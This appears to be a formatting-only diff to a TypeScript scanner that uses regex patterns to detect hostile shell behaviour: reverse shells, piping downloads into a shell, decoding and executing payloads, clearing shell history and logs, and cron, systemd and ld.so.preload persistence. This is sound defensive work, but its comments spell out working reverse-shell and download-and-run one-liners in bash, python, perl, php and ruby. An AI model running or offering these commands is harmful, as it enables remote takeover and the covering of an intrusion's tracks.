@@ -90,7 +90,12 @@ export const BEHAVIOURS: readonly Behaviour[] = [
       // bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
       { hint: '/dev/', all: [re(String.raw`${SH}\s{1,8}-[a-z]{0,3}i[a-z]{0,3}\b[^\n]{0,64}\/dev\/(?:tcp|udp)\/`)] },
       // … /dev/tcp/host/port … 0>&1 | 0<&196 | <&3  (stdin read from the socket; a port probe never does this)
-      { hint: '/dev/', all: [re(String.raw`\/dev\/(?:tcp|udp)\/[^\s/]{1,255}\/\d{1,5}[^\n]{0,32}(?:\b0>&\s{0,2}1\b|\b0<&|\s<&\s{0,2}\d)`)] },
+      {
+        hint: '/dev/',
+        all: [
+          re(String.raw`\/dev\/(?:tcp|udp)\/[^\s/]{1,255}\/\d{1,5}[^\n]{0,32}(?:\b0>&\s{0,2}1\b|\b0<&|\s<&\s{0,2}\d)`),
+        ],
+      },
       // exec 5<>/dev/tcp/host/port … then a shell or a read loop fed from that descriptor
       {
         hint: '/dev/',
@@ -125,23 +130,39 @@ export const BEHAVIOURS: readonly Behaviour[] = [
       // python -c 'import socket,os,pty;s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn("sh")'
       {
         hint: 'connect',
-        all: [re(String.raw`\.connect\s{0,4}\(\s{0,4}\(`), re(String.raw`\bsocket\b`), re(String.raw`\b(?:os\.dup2|pty\.spawn)\s{0,4}\(`)],
+        all: [
+          re(String.raw`\.connect\s{0,4}\(\s{0,4}\(`),
+          re(String.raw`\bsocket\b`),
+          re(String.raw`\b(?:os\.dup2|pty\.spawn)\s{0,4}\(`),
+        ],
         mitre: ['T1059.006'],
       },
       // perl -e 'use Socket;…;connect(S,…);open(STDIN,">&S");exec("/bin/sh -i")'
       {
         hint: 'perl',
-        all: [re(String.raw`\bperl\b[^\n]{0,64}\s-[a-zA-Z]{0,3}e\b`), re(String.raw`\bsocket\s{0,4}\(`, 'i'), re(String.raw`\bexec\b|\bopen\s{0,4}\(\s{0,4}STDIN\b`)],
+        all: [
+          re(String.raw`\bperl\b[^\n]{0,64}\s-[a-zA-Z]{0,3}e\b`),
+          re(String.raw`\bsocket\s{0,4}\(`, 'i'),
+          re(String.raw`\bexec\b|\bopen\s{0,4}\(\s{0,4}STDIN\b`),
+        ],
         mitre: ['T1059'],
       },
       // php -r '$s=fsockopen("h",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
       {
         hint: 'fsockopen',
-        all: [re(String.raw`\bphp\b[^\n]{0,64}\s-r\b`), re(String.raw`\bfsockopen\s{0,4}\(`), re(String.raw`\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s{0,4}\(`)],
+        all: [
+          re(String.raw`\bphp\b[^\n]{0,64}\s-r\b`),
+          re(String.raw`\bfsockopen\s{0,4}\(`),
+          re(String.raw`\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s{0,4}\(`),
+        ],
         mitre: ['T1059'],
       },
       // ruby -rsocket -e 'c=TCPSocket.new(h,p);…'
-      { hint: 'TCPSocket', all: [re(String.raw`\bruby\b[^\n]{0,64}-rsocket\b`), re(String.raw`\bTCPSocket\.(?:new|open)\b`)], mitre: ['T1059'] },
+      {
+        hint: 'TCPSocket',
+        all: [re(String.raw`\bruby\b[^\n]{0,64}-rsocket\b`), re(String.raw`\bTCPSocket\.(?:new|open)\b`)],
+        mitre: ['T1059'],
+      },
     ],
   },
   {
@@ -155,7 +176,10 @@ export const BEHAVIOURS: readonly Behaviour[] = [
       // curl -fsSL http://x/i.sh | sh · wget -qO- x | sudo bash
       { hint: ['curl', 'wget'], all: [re(String.raw`\b(?:curl|wget|fetch)\b[^\n|;&]{0,256}${PIPE_SH}`)] },
       // sh -c "$(curl -fsSL x)" · bash <(curl -s x) · eval "$(wget -qO- x)"
-      { hint: ['curl', 'wget'], all: [re(String.raw`(?:${SH}|\beval\b)[^\n]{0,32}(?:<\(|\$\(|\x60)\s{0,4}(?:curl|wget)\b`)] },
+      {
+        hint: ['curl', 'wget'],
+        all: [re(String.raw`(?:${SH}|\beval\b)[^\n]{0,32}(?:<\(|\$\(|\x60)\s{0,4}(?:curl|wget)\b`)],
+      },
       // curl -o /tmp/x http://… ; chmod +x /tmp/x (same line or later in the script)
       {
         hint: ['curl', 'wget'],
@@ -166,7 +190,11 @@ export const BEHAVIOURS: readonly Behaviour[] = [
         scope: 'text',
       },
       // python -c "import urllib.request as u;exec(u.urlopen('http://x').read())"
-      { hint: 'exec', all: [re(String.raw`\bexec\s{0,4}\(\s{0,4}(?:[\w.]{0,40}\.)?(?:urlopen|get)\s{0,4}\(`)], mitre: ['T1059.006'] },
+      {
+        hint: 'exec',
+        all: [re(String.raw`\bexec\s{0,4}\(\s{0,4}(?:[\w.]{0,40}\.)?(?:urlopen|get)\s{0,4}\(`)],
+        mitre: ['T1059.006'],
+      },
       {
         hint: 'python',
         all: [
@@ -199,12 +227,18 @@ export const BEHAVIOURS: readonly Behaviour[] = [
       {
         hint: ['base64', 'xxd'],
         all: [
-          re(String.raw`\$\(\s{0,4}(?:echo|printf)\b[^\n)]{0,1024}\|\s{0,4}(?:base64\s{1,8}(?:-[a-zA-Z]{0,3}d|--decode)|xxd\s{1,8}(?:-p\s{1,8})?-r)`),
+          re(
+            String.raw`\$\(\s{0,4}(?:echo|printf)\b[^\n)]{0,1024}\|\s{0,4}(?:base64\s{1,8}(?:-[a-zA-Z]{0,3}d|--decode)|xxd\s{1,8}(?:-p\s{1,8})?-r)`,
+          ),
           re(String.raw`\beval\b|${SH}\s{1,8}-c\b`),
         ],
       },
       // python -c "import base64;exec(base64.b64decode('…'))"
-      { hint: 'b64decode', all: [re(String.raw`\b(?:exec|eval)\s{0,4}\([^\n]{0,64}b64decode\s{0,4}\(`)], mitre: ['T1059.006'] },
+      {
+        hint: 'b64decode',
+        all: [re(String.raw`\b(?:exec|eval)\s{0,4}\([^\n]{0,64}b64decode\s{0,4}\(`)],
+        mitre: ['T1059.006'],
+      },
     ],
   },
   {
@@ -219,10 +253,19 @@ export const BEHAVIOURS: readonly Behaviour[] = [
       { hint: 'HISTFILE', all: [re(String.raw`\bunset\s[^\n;&|]{0,64}\bHISTFILE\b`)] },
       { hint: 'HISTFILE=', all: [re(String.raw`\bHISTFILE=(?:["']?\/dev\/null|""|''|\s|;|$)`)] },
       { hint: 'SIZE=', all: [re(String.raw`\bHIST(?:FILE)?SIZE=["']?0\b`)] },
-      { hint: 'history', all: [re(String.raw`\bset\s{1,8}\+o\s{1,8}history\b|\bshopt\s{1,8}-[ou]{2}\s{1,8}history\b`)] },
-      { hint: 'history', all: [re(String.raw`\b(?:rm|shred|unlink|srm|wipe|truncate)\b[^\n;&|]{0,256}(?:${HIST}|\.history\b)`)] },
+      {
+        hint: 'history',
+        all: [re(String.raw`\bset\s{1,8}\+o\s{1,8}history\b|\bshopt\s{1,8}-[ou]{2}\s{1,8}history\b`)],
+      },
+      {
+        hint: 'history',
+        all: [re(String.raw`\b(?:rm|shred|unlink|srm|wipe|truncate)\b[^\n;&|]{0,256}(?:${HIST}|\.history\b)`)],
+      },
       { hint: 'history', all: [re(String.raw`${TRUNCATE}[^\s;&|<>"']{0,256}${HIST}`)] },
-      { hint: 'history', all: [re(String.raw`\b(?:ln\s{1,8}-[a-zA-Z]{1,4}|cp)\s{1,8}\/dev\/(?:null|zero)\s{1,8}[^\s;&|]{0,256}${HIST}`)] },
+      {
+        hint: 'history',
+        all: [re(String.raw`\b(?:ln\s{1,8}-[a-zA-Z]{1,4}|cp)\s{1,8}\/dev\/(?:null|zero)\s{1,8}[^\s;&|]{0,256}${HIST}`)],
+      },
       { hint: 'history', all: [re(String.raw`\bchattr\s{1,8}\+[a-z]{0,3}i[^\n;&|]{0,256}${HIST}`)] },
     ],
   },
@@ -234,13 +277,21 @@ export const BEHAVIOURS: readonly Behaviour[] = [
     expectedInPackageHooks: false,
     antiForensics: true,
     patterns: [
-      { hint: '/var/log/', all: [re(String.raw`\b(?:rm|shred|unlink|srm|wipe|truncate)\b[^\n;&|]{0,256}${AUTH_LOGS}`)] },
+      {
+        hint: '/var/log/',
+        all: [re(String.raw`\b(?:rm|shred|unlink|srm|wipe|truncate)\b[^\n;&|]{0,256}${AUTH_LOGS}`)],
+      },
       { hint: '/var/log/', all: [re(String.raw`${TRUNCATE}${AUTH_LOGS}`)] },
-      { hint: '/var/log/', all: [re(String.raw`\b(?:ln\s{1,8}-[a-zA-Z]{1,4}|cp)\s{1,8}\/dev\/(?:null|zero)\s{1,8}${AUTH_LOGS}`)] },
+      {
+        hint: '/var/log/',
+        all: [re(String.raw`\b(?:ln\s{1,8}-[a-zA-Z]{1,4}|cp)\s{1,8}\/dev\/(?:null|zero)\s{1,8}${AUTH_LOGS}`)],
+      },
       { hint: '/var/log/', all: [re(String.raw`\bsed\s{1,8}-[a-zA-Z]{0,4}i[^\n;&|]{0,256}${AUTH_LOGS}`)] },
       {
         hint: 'vacuum',
-        all: [re(String.raw`\bjournalctl\b[^\n;&|]{0,64}--vacuum-(?:time=["']?[1-9]s|size=["']?[1-9][KM]?|files=["']?1)\b`)],
+        all: [
+          re(String.raw`\bjournalctl\b[^\n;&|]{0,64}--vacuum-(?:time=["']?[1-9]s|size=["']?[1-9][KM]?|files=["']?1)\b`),
+        ],
       },
     ],
   },
@@ -253,11 +304,22 @@ export const BEHAVIOURS: readonly Behaviour[] = [
     antiForensics: false,
     patterns: [
       { hint: 'cron', all: [re(String.raw`${REDIRECT}${CRON}`)] },
-      { hint: 'crontab', all: [re(String.raw`\|\s{0,8}(?:sudo\s{1,8})?crontab\s{1,8}(?:-u\s{1,8}\S{1,32}\s{1,8})?-(?![\w-])`)] },
+      {
+        hint: 'crontab',
+        all: [re(String.raw`\|\s{0,8}(?:sudo\s{1,8})?crontab\s{1,8}(?:-u\s{1,8}\S{1,32}\s{1,8})?-(?![\w-])`)],
+      },
       { hint: 'tee', all: [re(String.raw`\btee\s{1,8}(?:-a\s{1,8})?["']?${CRON}`)] },
-      { hint: 'cron', all: [re(String.raw`\b(?:cp|mv|install)\s[^\n;&|]{0,256}\s["']?${CRON}[^\s;&|"']{0,128}${LAST_ARG}`)] },
+      {
+        hint: 'cron',
+        all: [re(String.raw`\b(?:cp|mv|install)\s[^\n;&|]{0,256}\s["']?${CRON}[^\s;&|"']{0,128}${LAST_ARG}`)],
+      },
       // crontab /tmp/x installs a whole crontab from a file
-      { hint: 'crontab', all: [re(String.raw`(?:^|[\s;&|(])crontab\s{1,8}(?:-u\s{1,8}\S{1,32}\s{1,8})?[\/~.$][^\s;&|]{0,255}${LAST_ARG}`)] },
+      {
+        hint: 'crontab',
+        all: [
+          re(String.raw`(?:^|[\s;&|(])crontab\s{1,8}(?:-u\s{1,8}\S{1,32}\s{1,8})?[\/~.$][^\s;&|]{0,255}${LAST_ARG}`),
+        ],
+      },
     ],
   },
   {
@@ -270,7 +332,10 @@ export const BEHAVIOURS: readonly Behaviour[] = [
     patterns: [
       { hint: 'systemd/', all: [re(String.raw`${REDIRECT}${UNIT}`)] },
       { hint: 'systemd/', all: [re(String.raw`\btee\s{1,8}(?:-a\s{1,8})?["']?${UNIT}`)] },
-      { hint: 'systemd/', all: [re(String.raw`\b(?:cp|mv|install|ln\s{1,8}-[a-zA-Z]{1,4})\s[^\n;&|]{0,256}\s["']?${UNIT}${LAST_ARG}`)] },
+      {
+        hint: 'systemd/',
+        all: [re(String.raw`\b(?:cp|mv|install|ln\s{1,8}-[a-zA-Z]{1,4})\s[^\n;&|]{0,256}\s["']?${UNIT}${LAST_ARG}`)],
+      },
     ],
   },
   {
@@ -296,8 +361,16 @@ export const BEHAVIOURS: readonly Behaviour[] = [
     patterns: [
       { hint: 'ld.so.preload', all: [re(String.raw`${REDIRECT}\/etc\/ld\.so\.preload\b`)] },
       { hint: 'ld.so.preload', all: [re(String.raw`\btee\s{1,8}(?:-a\s{1,8})?["']?\/etc\/ld\.so\.preload\b`)] },
-      { hint: 'ld.so.preload', all: [re(String.raw`\b(?:cp|mv|install|ln\s{1,8}-[a-zA-Z]{1,4})\s[^\n;&|]{0,256}\/etc\/ld\.so\.preload${LAST_ARG}`)] },
-      { hint: 'ld.so.preload', all: [re(String.raw`\bsed\s{1,8}-[a-zA-Z]{0,4}i[^\n;&|]{0,256}\/etc\/ld\.so\.preload\b`)] },
+      {
+        hint: 'ld.so.preload',
+        all: [
+          re(String.raw`\b(?:cp|mv|install|ln\s{1,8}-[a-zA-Z]{1,4})\s[^\n;&|]{0,256}\/etc\/ld\.so\.preload${LAST_ARG}`),
+        ],
+      },
+      {
+        hint: 'ld.so.preload',
+        all: [re(String.raw`\bsed\s{1,8}-[a-zA-Z]{0,4}i[^\n;&|]{0,256}\/etc\/ld\.so\.preload\b`)],
+      },
       { hint: 'LD_PRELOAD=', all: [re(String.raw`\bLD_PRELOAD=["']?(?:${TMP}|\.\/)`)] },
     ],
   },
@@ -403,7 +476,8 @@ export function scan(input: string, ctx: ScanContext): Finding[] {
         for (const t of p.mitre ?? []) f.mitre.add(t);
         const q = quote(line, m.index);
         if (f.lines.length < MAX_QUOTES_PER_BEHAVIOUR && !f.lines.includes(q)) f.lines.push(q);
-        if (b.id === 'ssh-authorized-keys' && (AK_ROOT_RE.test(line) || (ctx.root && AK_HOME_RE.test(line)))) f.severity = 'high';
+        if (b.id === 'ssh-authorized-keys' && (AK_ROOT_RE.test(line) || (ctx.root && AK_HOME_RE.test(line))))
+          f.severity = 'high';
         break; // one pattern per behaviour and line is enough
       }
     }
